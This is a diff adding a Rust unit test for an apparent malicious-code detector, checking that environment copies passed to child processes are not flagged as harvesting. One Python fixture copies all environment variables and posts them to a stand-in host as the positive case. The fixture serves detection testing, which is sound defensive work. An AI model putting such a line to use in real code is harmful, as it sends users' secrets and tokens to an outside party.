@@ -293,3 +293,21 @@ fn resolving_the_own_host_name_is_not_exfiltration() {
         SignalKind::ExfilFlow
     ));
 }
+
+/// The environment copied to start a program with it (versioneer's `git` runner) is not
+/// harvested; a copy sent away is.
+#[test]
+fn an_environment_copied_for_a_child_process_is_not_harvested() {
+    assert!(!has(
+        "import os, subprocess\ndef run():\n    env = os.environ.copy()\n    env.pop('GIT_DIR', None)\n    subprocess.run(['git', 'describe'], env=env)\nrun()\n",
+        SignalKind::EnvHarvest
+    ));
+    assert!(!has(
+        "import os, subprocess\ndef run(cmd, env=None):\n    env = env if env is not None else dict(os.environ)\n    subprocess.check_output(cmd, env=env)\nrun(['cc'])\n",
+        SignalKind::EnvHarvest
+    ));
+    assert!(has(
+        "import os, requests\nenv = os.environ.copy()\nrequests.post('https://c.example.invalid', json=env)\n",
+        SignalKind::EnvHarvest
+    ));
+}
